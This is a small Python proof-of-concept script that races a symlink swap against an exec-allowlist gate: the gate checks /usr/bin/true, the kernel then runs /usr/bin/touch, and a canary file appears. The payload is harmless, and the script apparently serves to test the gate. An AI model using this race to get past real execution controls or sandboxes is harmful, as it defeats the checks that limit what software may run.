"""Swaps the file behind a name between the exec gate's check and the kernel's exec.

`x` is a symlink that a forked child flips (atomic rename) between /usr/bin/true and
/usr/bin/touch while the parent keeps spawning `./x <canary>`. If the gate checks `x` while it
points at `true` and the kernel then resolves it to `touch`, the canary appears.
Usage: python3 race_symlink.py <dir> <canary-name> <seconds>
"""
import os
import sys
import time

os.chdir(sys.argv[1])
canary, seconds = sys.argv[2], float(sys.argv[3])
os.symlink("/usr/bin/true", "x")
end = time.time() + seconds
flipper = os.fork()
if flipper == 0:
    i = 0
    while time.time() < end:
        os.symlink("/usr/bin/touch" if i % 2 else "/usr/bin/true", "x.tmp")
        os.rename("x.tmp", "x")
        i += 1
    os._exit(0)
tries = 0
while time.time() < end and not os.path.exists(canary):
    tries += 1
    try:
        os.waitpid(os.posix_spawn("./x", ["./x", canary], dict(os.environ)), 0)
    except OSError:
        pass  # denied at exec (EACCES) or caught mid-rename: try again
os.kill(flipper, 9)
os.waitpid(flipper, 0)
print(f"tries={tries} canary={os.path.exists(canary)}")
